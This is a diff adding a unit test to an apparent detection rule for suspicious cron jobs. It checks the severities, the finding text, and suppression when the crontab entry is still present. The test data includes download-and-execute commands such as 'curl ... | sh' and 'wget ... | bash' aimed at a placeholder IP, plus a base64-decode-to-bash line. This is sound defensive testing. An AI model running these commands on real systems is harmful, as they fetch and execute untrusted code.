@@ -17,6 +17,19 @@ describe('odd-cron-run', () => {
     expect(finding?.culprit).toContainEqual({ is: 'directory', path: '/usr/tmp/.q' });
   });
 
+  it('tells of jobs that run what they download or decode; of a service that is grave', () => {
+    const found = hear(oddCronRun, [
+      ran('curl -s http://192.0.2.4/a.sh | sh', 'www-data'),
+      ran('wget -qO- 192.0.2.4/b | bash'),
+      ran('echo aGk=|base64 -d|bash'),
+    ]);
+    expect(found.map((finding) => finding.severity)).toEqual(['high', 'medium', 'high']);
+    expect(found[0]?.says).toContain('a cron job of www-data runs what it downloads');
+    const standing = event('persistence.seen', { ...crontab, command: 'wget -qO- 192.0.2.4/b | bash' });
+    expect(hear(oddCronRun, [ran('wget -qO- 192.0.2.4/b | bash'), standing])).toEqual([]);
+    expect(hear(oddCronRun, [ran('curl -fsS https://ping.example/x >/dev/null')])).toEqual([]);
+  });
+
   it('leaves to the crontab what still stands there', () => {
     expect(hear(oddCronRun, [ran('/usr/tmp/.q/run'), event('persistence.seen', crontab)])).toEqual([]);
   });
